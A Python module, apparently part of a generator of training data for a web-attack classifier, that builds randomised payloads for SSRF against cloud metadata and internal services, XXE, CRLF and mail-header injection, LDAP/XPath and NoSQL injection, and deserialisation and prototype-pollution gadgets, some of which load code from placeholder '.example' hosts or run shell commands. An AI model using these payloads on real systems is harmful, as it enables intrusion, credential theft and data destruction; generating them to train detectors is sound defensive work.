"""Attacks on what stands behind the application: requests from inside, XML, directories, document stores, headers, objects."""

from __future__ import annotations

from collections.abc import Callable
from typing import Final
from urllib.parse import quote

from classifiers.corpus.web_attack_tables import COMMANDS, FILES_UNIX, FILES_WINDOWS, URLS
from classifiers.corpus.web_draw import Draw, word

_PRIVATE: Final = (
    (127, 0, 0, 1), (127, 0, 0, 1), (169, 254, 169, 254), (169, 254, 169, 254), (10, 0, 0, 1), (192, 168, 0, 1), (172, 16, 0, 1), (0, 0, 0, 0), (127, 127, 127, 127), (100, 100, 100, 200), (169, 254, 170, 2), (192, 0, 0, 192),
)  # fmt: skip
_INSIDE: Final = (
    "localhost", "metadata.google.internal", "metadata", "kubernetes.default.svc", "kubernetes.default", "host.docker.internal", "instance-data", "localtest.me", "lvh.me", "localhost.localdomain", "redis", "consul.service.consul", "vault", "elasticsearch", "ip6-localhost", "router.local", "intranet", "jenkins.internal", "gitlab.internal",
)  # fmt: skip
_PORTS: Final = "22 25 53 80 111 443 445 2375 2379 3306 4194 5000 5432 5601 5984 6379 6443 8000 8080 8443 8500 9000 9090 9200 10250 10255 11211 15672 27017 50070".split()
_BEHIND: Final = (
    "latest/meta-data/", "latest/meta-data/iam/security-credentials/", "latest/meta-data/iam/security-credentials/W", "latest/user-data", "latest/dynamic/instance-identity/document", "latest/api/token", "computeMetadata/v1/", "computeMetadata/v1/instance/service-accounts/default/token",
    "computeMetadata/v1beta1/instance/?recursive=true", "metadata/instance?api-version=2021-02-01", "metadata/identity/oauth2/token?resource=https://management.azure.com/", "opc/v1/instance/", "openstack/latest/meta_data.json", "metadata/v1.json", "v2/credentials/W", "containers/json", "v1.24/images/json", "_cat/indices", "_cluster/health",
    "server-status", "actuator/env", "v1/agent/self", "v1/kv/?recurse", "api/v1/namespaces/kube-system/secrets", "run/default/W/W", "pods", "solr/admin/cores", "manager/html", "admin", "_search?q=password", "_all_dbs", "jolokia/list", "status", "debug/pprof", "v2/keys/?recursive=true", "W", "",
)  # fmt: skip
_STORED: Final = (
    "*1%0d%0a$8%0d%0aflushall%0d%0a", "%2A1%0D%0A%248%0D%0AFLUSHALL%0D%0A", "SET%20W%20%22%3C%3Fphp%22%0D%0ASAVE", "CONFIG%20SET%20dir%20/var/www", "GET%20/W%20HTTP/1.1%0D%0AHost:%20W%0D%0A%0D%0A", "stats%0d%0aquit", "HELO%20W%250d%250aMAIL%20FROM:%3CW%3E", "%0Aset%20W%200%20N%20N%0A", "POST%20/W%20HTTP/1.0%0AContent-Length:N%0A%0AW", "EVAL%20%22os.execute('id')%22%200", "auth%20W",
)  # fmt: skip


def _host(rng: Draw) -> str:
    """An address of the inside, in one of the ways in which libraries read one."""
    a = list(rng.choice(_PRIVATE))
    if a[0] in (10, 192, 172):
        a[2:] = [rng.randint(0, 255), rng.randint(1, 254)]
    number = (a[0] << 24) | (a[1] << 16) | (a[2] << 8) | a[3]
    dotted = ".".join(map(str, a))
    styles: tuple[Callable[[], str], ...] = (
        lambda: dotted, lambda: dotted, lambda: str(number), lambda: hex(number), lambda: f"0{number:o}", lambda: ".".join(hex(n) for n in a), lambda: ".".join(f"0{n:o}" for n in a), lambda: f"{a[0]}.{(a[1] << 16) | (a[2] << 8) | a[3]}", lambda: "127.1", lambda: "0",
        lambda: f"[::ffff:{dotted}]", lambda: "[::1]", lambda: "[::]", lambda: "[0:0:0:0:0:ffff:7f00:1]", lambda: f"[::ffff:{number >> 16:x}:{number & 0xFFFF:x}]", lambda: "[fd00:ec2::254]", lambda: f"{dotted}.nip.io", lambda: f"{word(rng)}.{dotted}.sslip.io", lambda: f"{dotted}.xip.io", lambda: dotted.translate(_CIRCLED), lambda: dotted.replace(".", "。"),
        lambda: quote(dotted, safe="").replace("1", "%31"), lambda: rng.choice(_INSIDE), lambda: rng.choice(_INSIDE), lambda: rng.choice(_INSIDE).upper(), lambda: f"{word(rng)}@{dotted}", lambda: f"{word(rng)}.example@{rng.choice(_INSIDE)}", lambda: f"{dotted}#@{word(rng)}.example", lambda: f"{word(rng)}.example:80@{dotted}", lambda: f"{dotted}%23.{word(rng)}.example", lambda: f"0x{a[0]:02x}{a[1]:02x}{a[2]:02x}{a[3]:02x}", lambda: f"{dotted}%2523@{word(rng)}.example",
    )  # fmt: skip
    return rng.choice(styles)()


_CIRCLED: Final = str.maketrans("0123456789", "⓪①②③④⑤⑥⑦⑧⑨")


def ssrf(rng: Draw) -> str:
    host, port = _host(rng), rng.choice(("", "", f":{rng.choice(_PORTS)}"))
    path = rng.choice(_BEHIND).replace("W", word(rng))
    kind = rng.randrange(12)
    if kind == 0:
        body = rng.choice(_STORED).replace("W", word(rng)).replace("N", str(rng.randint(1, 99)))
        return f"gopher://{host}:{rng.choice(_PORTS)}/_{body}"
    if kind == 1:
        scheme = rng.choice(("dict", "sftp", "tftp", "ldap", "ldaps", "ftp", "netdoc", "jar:http", "ssh2.exec", "imap", "smtp", "rtsp", "ntp", "local_file", "url:file"))  # fmt: skip
        return (
            f"{scheme}://{host}:{rng.choice(_PORTS)}/{rng.choice((path, 'info', 'stat', word(rng), 'd:' + word(rng)))}"
        )
    if kind == 2:
        file = rng.choice((*FILES_UNIX, *FILES_WINDOWS))
        return rng.choice((f"file://{file}", f"file:///{file.lstrip('/')}", f"file://localhost/{file.lstrip('/')}", f"file:{file}", f"FILE:///{file.lstrip('/')}", f"file:/{file}", f"netdoc://{file}", f"view-source:file://{file}", f"jar:file://{file}!/"))  # fmt: skip
    scheme = rng.choice(("http://", "http://", "http://", "https://", "HTTP://", "//", "http:", "http:\\\\", "http:///", "http:/\\", "url:http://", ""))  # fmt: skip
    made = f"{scheme}{host}{port}/{path}"
    return rng.choice((made, made, made, quote(made, safe=""), f"{made}?{word(rng)}", f"{made}#{word(rng)}", f"{made}%00", f"http://{word(rng)}.example/r?url={made}", f"{made}/.."))  # fmt: skip


def xxe(rng: Draw) -> str:
    w, v, e = word(rng), word(rng), word(rng, 1, 5)
    url = rng.choice(URLS).replace("W", w)
    target = rng.choice((f"file://{rng.choice(FILES_UNIX)}", f"file:///{rng.choice(FILES_WINDOWS)}", url, f"http://{_host(rng)}/{w}", f"php://filter/read=convert.base64-encode/resource={w}.php", f"expect://{rng.choice(COMMANDS).split(' ')[0]}", f"ftp://{w}.example:21/%{e};", f"gopher://{_host(rng)}/{w}", f"jar:{url}!/{v}", f"netdoc:{rng.choice(FILES_UNIX)}", rng.choice(FILES_UNIX)))  # fmt: skip
    kind = rng.choice(("SYSTEM", "SYSTEM", "SYSTEM", "system", f'PUBLIC "{w}"', f'PUBLIC "-//{w}//DTD {v}//EN"'))
    q = rng.choice(('"', "'"))
    head = rng.choice(("", "", '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0" encoding="UTF-7"?>', "<?xml version='1.0' encoding='utf-16'?>", '<?xml version="1.0" standalone="no"?>'))  # fmt: skip
    gap = rng.choice((" ", "\n", "\t", "  "))
    entity = f"<!ENTITY{gap}{e} {kind} {q}{target}{q}>"
    parameter = f"<!ENTITY % {e} {kind} {q}{target}{q}> %{e};"
    outer = rng.choice((w, "foo", "root", "data", "svg", "soap:Envelope", "request"))
    use = rng.choice((f"<{outer}>&{e};</{outer}>", f"<{outer}><{v}>&{e};</{v}></{outer}>", f'<{outer} {v}="&{e};"/>', f"<svg><text>&{e};</text></svg>", ""))  # fmt: skip
    bomb = "".join(f'<!ENTITY {w}{i} "{f"&{w}{i - 1};" * rng.randint(3, 10)}">' for i in range(1, rng.randint(2, 5)))
    return rng.choice(
        (f"{head}<!DOCTYPE {outer} [{entity}]>{use}", f"{head}<!DOCTYPE {outer} [{gap}<!ELEMENT {outer} ANY >{gap}{entity}]>{use}", f"{head}<!DOCTYPE {outer} [{parameter}]>{use}", f"{head}<!DOCTYPE {outer} {kind} {q}{target}{q}>{use}", f"<!DOCTYPE {outer}[<!ENTITY % {e} {kind} {q}{target}{q}>%{e};%{v};]>", entity, parameter,
         f"<!ENTITY % {w} \"<!ENTITY &#x25; {v} SYSTEM '{url}?{w}=%{e};'>\">%{w};%{v};", f"{head}<!DOCTYPE {outer} [<!ENTITY {w}0 \"{v}\">{bomb}]><{outer}>&{w}1;</{outer}>", f"<{outer} xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"{target}\"/></{outer}>", f"<xi:include href=\"{target}\"><xi:fallback/></xi:include>",
         f"<xsl:stylesheet version=\"1.0\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('{target}')\"/></xsl:template></xsl:stylesheet>", f"<xsl:value-of select=\"php:function('system','{rng.choice(COMMANDS)}')\"/>", f"<xsl:import href=\"{url}\"/>", f"<svg xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"{target}\"/></svg>",
         f"<![CDATA[<!DOCTYPE {outer} [{parameter}]><{outer}/>]]>", f"<soap:Body><{w}><![CDATA[<!DOCTYPE {v} [{entity}]>]]></{w}></soap:Body>", quote(f"<!DOCTYPE {outer} [{entity}]>{use}", safe=""))
    )  # fmt: skip


_BREAKS: Final = ("%0d%0a", "%0d%0a", "%0a", "%0d", "\r\n", "\n", "%250d%250a", "%E5%98%8A%E5%98%8D", "\\r\\n", "%0D%0A%20", "%u000d%u000a", "%23%0d%0a", "%3f%0d%0a", "%0d%0a%09", "嘊嘍", "&#13;&#10;", "%c4%8d%c4%8a", "\x85", "%E2%80%A8")  # fmt: skip


def crlf(rng: Draw) -> str:
    w, v, n = word(rng), word(rng), rng.randint(1, 999)
    br = rng.choice(_BREAKS)
    url = rng.choice(URLS).replace("W", w)
    header = rng.choice(
        (f"Set-Cookie:{w}={v}", f"Set-Cookie: {w}={v}; HttpOnly", f"Location: {url}", f"Location:{url}", f"Content-Length: 0{br}{br}HTTP/1.1 200 OK{br}Content-Type: text/html{br}{br}<html>{w}</html>", f"Content-Type: text/html{br}{br}<script>alert({n})</script>", "X-XSS-Protection: 0", f"Access-Control-Allow-Origin: {url}", "Transfer-Encoding: chunked", f"Refresh: 0;url={url}",
         f"Host: {w}.example", f"Content-Disposition: attachment; filename={w}.bat", "Content-Length: 0", f"X-Forwarded-For: {_host(rng)}", f"X-Forwarded-Host: {w}.example", f"Last-Modified: {v}", f"Referer: {url}", f"GET /{w} HTTP/1.1{br}Host: {v}.example", f"POST /{w} HTTP/1.1", f"HTTP/1.1 302 Found{br}Location: {url}", f"Link: <{url}>; rel=preload", f"Clear-Site-Data: \"{w}\"", f"Set-cookie%3a{w}%3d{v}",
         f"Bcc: {w}@{v}.example", f"Cc:{w}@{v}.example", f"Bcc:{w}@{v}.example,{v}@{w}.example", f"MIME-Version: 1.0{br}Content-Type: multipart/mixed; boundary={w}", f".{br}MAIL FROM:<{w}@{v}.example>{br}RCPT TO:<{v}@{w}.example>{br}DATA", f"RCPT TO: {w}@{v}.example", f"QUIT{br}", f"Reply-To: {w}@{v}.example", f"A001 CREATE INBOX.{w}", f"{n} SELECT INBOX", f"V100 CAPABILITY{br}V101 FETCH {n}:*",
         f"FLUSHALL{br}", f"SET {w} {v}{br}SAVE", f"CONFIG SET dir /var/www{br}", f"127.0.0.1 - - \"GET /{w} HTTP/1.1\" 200 {n}")
    )  # fmt: skip
    before = rng.choice(
        (
            "",
            "",
            w,
            f"/{w}",
            f"http://{w}.example/",
            f"{w}@{v}.example",
            str(n),
            f"/{w}?{v}=",
            f"{w} {v}",
            "?",
            "//",
            "/%2e%2e",
        )
    )
    return (
        before + br * rng.choice((1, 1, 1, 2)) + header + rng.choice(("", "", "", br, br + w, br * 2 + f"<b>{w}</b>"))
    )


_ATTRIBUTES: Final = "uid cn sn mail objectClass userPassword memberOf samAccountName givenName ou userPrincipalName password homeDirectory description telephoneNumber".split()


def ldap(rng: Draw) -> str:
    """Parts of a filter that close the one they stand in, and paths of XML that do the same."""
    w, n = word(rng), rng.randint(0, 99)
    a, b = rng.choice(_ATTRIBUTES), rng.choice(_ATTRIBUTES)
    star = rng.choice(("*", "*", "%2a", "\\2a", f"{w}*"))
    before = rng.choice(("*", "", w, "admin", f"{w}*", "*)"))
    return rng.choice(
        (f"{before})({a}={star}", f"{before})({a}={star})", f"{before})({a}={star}))(|({b}={star}", f"{before})(|({a}={star})", f"{before})(&({a}={star})", f"{before}))%00", f"{before})({a}={star}))\x00", f"{before})(!({a}={w})", f"{before})(&)", f"{before})(|(&", f"{before}))(|({a}={star}", f"|({a}={star}", f"&({a}={w})({b}={star})", f"(|({a}={star})({b}={star}))", f"(&({a}={star})({b}={w}*))", f"*)(|({a}={star})({b}={star}", f"{w}*)(({a}={star}",
         f"*)({a}>={w}", f"{w})(|({a}=a*", f"*)({a}:caseExactMatch:={w}", f"!({a}={w})", f"*)({a}={star}))(|(mail=*@{w}.example", f"x' or name()='{w}' or 'x'='y", f"' or count(//{w})={n} or ''='", f"'] | //{w} | //{w}['", f"{n}] | //*[position()={n}", f"' and string-length(name(/*[1]))={n} and '1'='1", f"' or substring(//{w}[1]/{a},{n},1)='{w[0]}", f"' or contains(//{w}/text(),'{w}') or '",
         "'or 1=1 or ''='", f"' and doc('http://{w}.example/?'||//{w}[1]) and '", f"') or ('{w}'='{w}", f"{w}' or //*", f"' or /child::node()[position()={n}]/text()='{w}", f"']/parent::*/child::node()[{n}]", f"' and starts-with(name(/*),'{w[0]}", f"count(/child::node())={n}", f"' union for $x in doc('{w}.xml')//* return $x", f"\") or collection()//{w} or (\"")
    )  # fmt: skip


def nosql(rng: Draw) -> str:
    w, v, n = word(rng), word(rng), rng.randint(1, 9999)
    field = rng.choice(("username", "password", "login", "user", "token", "pass", "email", w))
    code = rng.choice(
        (f"sleep({n})", "return true", "1==1", f"this.{field}.match(/.*/)", f"this.{field}=='{w}'", f"var d=new Date();do{{c=new Date();}}while(c-d<{n})", "db.getCollectionNames()", f"db.{w}.drop()", "this.constructor.constructor('return process')()", f"tojson(this).length>{n}", f"this.{field}[0]=='{w[0]}'", f"db.version()[0]=='{n}'", f"emit({n},{n})", f"Object.keys(this)[{n % 9}].match('^{w}.*')", "while(true){}", f"db.{w}.insert({{{v}:{n}}})", f"run(\"{w}\")", f"load('{w}.js')")
    )  # fmt: skip
    value = rng.choice(("null", '""', f'"{w}"', "1", "true", '"undefined"', "-1", f'["{w}"]'))
    operator = rng.choice(("$ne", "$ne", "$gt", "$exists", "$nin", "$not"))
    pattern = rng.choice((".*", "^.*", f"^{w[0]}", f".{{{n % 30}}}", f"^{w}.*$", "(?s).*"))
    q = rng.choice(("'", '"'))
    return rng.choice(
        (f'{{"{operator}": {value}}}', f'{{"{field}": {{"{operator}": {value}}}}}', f'{{"{field}": {{"{operator}": {value}}}, "{v}": {{"{operator}": {value}}}}}', f'{{"$where": "{code}"}}', f'{{"$or": [{{}}, {{"{field}": "{w}"}}]}}', f'{{"{field}": {{"$regex": "{pattern}"}}}}', f"[{operator}]={w}", f"{field}[{operator}]={w}", f"{field}[$regex]={pattern}", f"{field}[$nin][]={w}&{field}[$nin][]={v}", f"{field}[$where]={code}", f"$where: '{code}'",
         f"{q};{code};var {w}={q}", f"{q}; {code}; {q}", f"{q} || {code} || {q}{w}{q}=={q}", f"{q} || {q}{w}{q}=={q}{w}", f"{q} && this.{field} && {q}1{q}=={q}1", f"{w}{q} || 1==1//", f"{w}{q} || 1==1%00", f"{q}}}, {q}$or{q}: [{{}}, {{{q}{w}{q}: {q}", f"{q}, $or: [ {{}}, {{ {q}{w}{q}:{q}", f"0;{code}", f"true, $where: '{code}'", f"{{$gt: ''}}, $comment: '{w}'", f"{q};return(true);var {w}={q}", f"{q}}});db.{w}.find();var {v}=({{{w}:{q}",
         f'{{"mapReduce": "{w}", "map": "function(){{{code}}}"}}', f'{{"$expr": {{"$function": {{"body": "{code}", "args": []}}}}}}', f'{{"selector": {{"{field}": {{"$gt": null}}}}}}', f"*/*{q}{q}{w}", f'{{"script": {{"source": "{code}"}}}}', f'{{"script_fields": {{"{w}": {{"script": "java.lang.Math.class.forName(\\"java.lang.Runtime\\")"}}}}}}', f"{w} RETURN 1 UNION MATCH (n) DETACH DELETE n//", f"{q}}}) RETURN n//", f"{q} OR 1=1 WITH 1 as a CALL db.labels() yield label LOAD CSV FROM {q}http://{w}.example/?a={q}+label as b RETURN 0//", f"{w}{q} ALLOW FILTERING;--")
    )  # fmt: skip


def objects(rng: Draw) -> str:
    """Serialised objects that run something when they are read, and members that change what every object inherits."""
    w, v, n = word(rng), word(rng), rng.randint(1, 99)
    command = rng.choice(COMMANDS).replace("W", w)
    name = rng.choice(
        (
            "Monolog\\Handler\\SyslogUdpHandler",
            "GuzzleHttp\\Psr7\\FnStream",
            "Illuminate\\Broadcasting\\PendingBroadcast",
            w.title(),
            "Swift_KeyCache_DiskKeyCache",
        )
    )
    return rng.choice(
        (f'O:{len(name)}:"{name}":{n % 5}:{{s:{len(w)}:"{w}";s:{len(command)}:"{command}";}}', f'a:{n}:{{i:0;O:{len(name)}:"{name}":1:{{s:{len(v)}:"{v}";O:{len(w)}:"{w}":0:{{}}}}}}', f'O:+{len(w)}:"{w}":1:{{s:4:"data";s:{n}:"{v}";}}', f"C:{len(w)}:\"{w}\":{n}:{{x:i:0;{v}}}",
         f"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1Z{word(rng, 10, 30)}", f"rO0ABXQA{word(rng, 6, 20)}==", f"AAEAAAD/////AQAAAAAAAAAMAgAAA{word(rng, 10, 30)}", f"\\xac\\xed\\x00\\x05sr\\x00{w}", f"cos\nsystem\n(S'{command}'\ntR.", f"cposix\nsystem\np0\n(S'{command}'\np1\ntp2\nRp3\n.", f"c__builtin__\neval\n(S'{w}'\ntR.", f"gASVJAAAAAAAAACMBXBvc2l4{word(rng, 9, 20)}", f"\\x80\\x04\\x95cposix\\nsystem\\n{w}",
         f"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{w}.example/\"]]]]", f"!!python/object/new:os.system [{command}]", f"!!python/object/apply:subprocess.check_output\nargs: [{command}]", f"!!python/name:builtins.{w}", f"--- !ruby/object:Gem::Installer\ni: {w}", f"--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n{w}: x", f"!ruby/object:ERB\nsrc: system('{command}')", f"!!com.sun.rowset.JdbcRowSetImpl {{dataSourceName: 'ldap://{w}.example/{v}', autoCommit: true}}", f"\\x04\\bo:{w}",
         f'{{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://{w}.example/{v}","autoCommit":true}}', f'{{"@type":"java.lang.Class","val":"com.sun.{w}"}}', f'{{"@type":"org.apache.{w}.{v}","{w}":"rmi://{w}.example"}}', f'["org.springframework.context.support.ClassPathXmlApplicationContext","http://{w}.example/{v}.xml"]', f'{{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":["cmd","/c {w}"]}}', f"<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class='java.beans.EventHandler'><target class='java.lang.ProcessBuilder'><command><string>{command}</string></command></target></handler></dynamic-proxy></sorted-set>",
         f"<java.util.PriorityQueue serialization='custom'><{w}/></java.util.PriorityQueue>", f"<void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\"><void index=\"0\"><string>{command}</string></void></array></void>", f'{{"rce":"_$$ND_FUNC$$_function (){{require(\'child_process\').exec(\'{command}\')}}()"}}', f"_$$ND_FUNC$$_function(){{ {w}.{v}() }}()", f'{{"py/object": "__main__.{w}", "py/reduce": [{{"py/type": "os.system"}}, {{"py/tuple": ["{command}"]}}]}}',
         f'{{"__proto__": {{"{w}": "{v}"}}}}', f'{{"constructor": {{"prototype": {{"{w}": {n}}}}}}}', f"__proto__[{w}][{v}]={n}", f"__proto__.{w}={v}", f"constructor[prototype][{w}]={v}", f"{w}[__proto__][{v}]={n}", f'{{"__proto__":{{"shell":"/proc/self/exe","argv0":"console.log({n})//"}}}}', f'["__proto__"]["{w}"]={n}', f"class.module.classLoader.resources.context.parent.pipeline.first.{w}={v}", f"class['module'].classLoader.{w}={v}", f"class.classLoader.URLs[0]=jar:http://{w}.example/{v}.jar!/")
    )  # fmt: skip
